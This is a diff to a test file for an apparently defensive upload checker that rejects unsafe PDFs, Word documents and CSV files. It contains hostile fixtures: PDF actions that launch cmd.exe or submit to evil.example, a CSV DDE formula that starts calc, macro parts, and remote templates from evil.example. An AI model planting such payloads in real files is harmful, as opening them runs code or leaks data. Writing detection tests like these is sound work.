@@ -126,6 +126,24 @@ const word = {
   "docProps/app.xml": strToU8("<Properties><Pages>14</Pages></Properties>"),
 };
 
+const relation = (type: string, target: string, mode = "Internal") =>
+  strToU8(
+    `<Relationships xmlns="urn:r"><Relationship Id="r1" Type="http://schemas.example/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
+  );
+
+test.for([
+  ["a link to a page", "hyperlink", "https://www.gov.uk/"],
+  ["a template on the author's machine", "attachedTemplate", "file:///C:\\Templates\\Council.dotm"],
+])("takes a document with %s", async ([, type, target]) => {
+  const bytes = zipSync({ ...word, "word/_rels/document.xml.rels": relation(type ?? "", target ?? "", "External") });
+  expect(await toldOfRelease(withDocument("a.docx"), { "media/a.docx": bytes })).toEqual([]);
+});
+
+test("takes a table of words and numbers", async () => {
+  const table = 'name,sum\nA,-5\n"B, +44 1632 960100",@northgate\n';
+  expect(await toldOfRelease(withDocument("a.csv"), { "media/a.csv": table })).toEqual([]);
+});
+
 test.for<[string, string, string | Uint8Array, string]>([
   ["nothing", "a.pdf", "", "is empty → the file copied here once more"],
   [
@@ -162,8 +180,85 @@ test.for<[string, string, string | Uint8Array, string]>([
     "a PDF with a program",
     "a.pdf",
     goodPdf({ script: "app.alert\\(1\\);" }),
-    "runs a program of its own when it is opened → the PDF without it: the document saved as PDF again, not as a form with scripts",
+    "runs a program of its own, sends something or opens something else → the PDF without it: the document saved as PDF again, not as a form with scripts",
   ],
+  ...[
+    ["at its first page", {}, "/AA << /O << /S /JavaScript /JS (x) >> >>"],
+    [
+      "after a step",
+      { catalog: "/OpenAction << /S /GoTo /D [6 0 R /Fit] /Next << /S /J#61vaScript /JS (x) >> >>" },
+      "",
+    ],
+    ["on the machine", { catalog: "/OpenAction << /S /Launch /F (cmd.exe) >>" }, ""],
+    ["in a link", {}, "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (calc.exe) >> >>]"],
+    ["that sends a form", { catalog: "/AA << /WC << /S /SubmitForm /F (http://evil.example/) >> >>" }, ""],
+    ["that opens a page of another", { catalog: "/OpenAction << /S /URI /URI (http://evil.example/) >>" }, ""],
+    ["that opens another file", { catalog: "/OpenAction << /S /GoToR /F (//evil.example/x.pdf) >>" }, ""],
+  ].map(([where, said, page]): [string, string, Buffer, string] => [
+    `a PDF with an action ${where}`,
+    "a.pdf",
+    goodPdf({ ...(said as object), page: page as string }),
+    "runs a program of its own, sends something or opens something else → the PDF without it: the document saved as PDF again, not as a form with scripts",
+  ]),
+  [
+    "a PDF with a file in it",
+    "a.pdf",
+    goodPdf({ catalog: "/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >> >>" }),
+    "carries other files inside it → the PDF without them, and each beside it in media/",
+  ],
+  [
+    "a program before a PDF",
+    "a.pdf",
+    Buffer.concat([Buffer.from("MZ\x90\0 "), goodPdf()]),
+    "is not a PDF inside, whatever it is called → the file saved again by the program that made it",
+  ],
+  [
+    "a formula",
+    "a.csv",
+    `name,sum\r\nA,-5\r\n"=cmd|' /C calc'!A0",1\r\n`,
+    "has a formula in line 3, which spreadsheet programs run → what the formula gave",
+  ],
+  [
+    "a page before a Word document",
+    "a.docx",
+    Buffer.concat([Buffer.from("<html>"), zipSync(word)]),
+    "cannot be opened as a document of its kind → the document saved again by the program that made it",
+  ],
+  ...[
+    ["word/_rels/document.xml.rels", "vbaProject", "vba.bin", ""],
+    ["word\\vbaProject.bin", "", "", ""],
+    ["xl/macrosheets/sheet1.xml", "", "", ""],
+  ].map(([path = "", type = "", target = ""]): [string, string, Uint8Array, string] => [
+    `macros of another kind: ${path}`,
+    "a.docx",
+    zipSync({ ...word, [path]: relation(type, target) }),
+    "has macros in it, which are programs → the document saved without them: in Word, Save As, Word Document (*.docx)",
+  ]),
+  [
+    "macros by its type",
+    "a.docx",
+    zipSync({
+      ...word,
+      "[Content_Types].xml": strToU8(
+        '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
+      ),
+    }),
+    "has macros in it, which are programs → the document saved without them: in Word, Save As, Word Document (*.docx)",
+  ],
+  [
+    "an object of another program",
+    "a.docx",
+    zipSync({ ...word, "word/_rels/document.xml.rels": relation("oleObject", "embeddings/oleObject1.bin") }),
+    "has an object of another program in it, which may be a program itself → the document with a picture of the object in its place",
+  ],
+  ...["http://evil.example/t.dotm", "\\\\evil.example\\t.dotm", "file://evil.example/t.dotm"].map(
+    (target): [string, string, Uint8Array, string] => [
+      `a template at ${target}`,
+      "a.docx",
+      zipSync({ ...word, "word/_rels/settings.xml.rels": relation("attachedTemplate", target, "External") }),
+      "loads something from elsewhere when it is opened → the document with it inside: in Word, File, Info, Edit Links to Files, Break Link",
+    ],
+  ),
   [
     "a page before a PDF",
     "a.pdf",
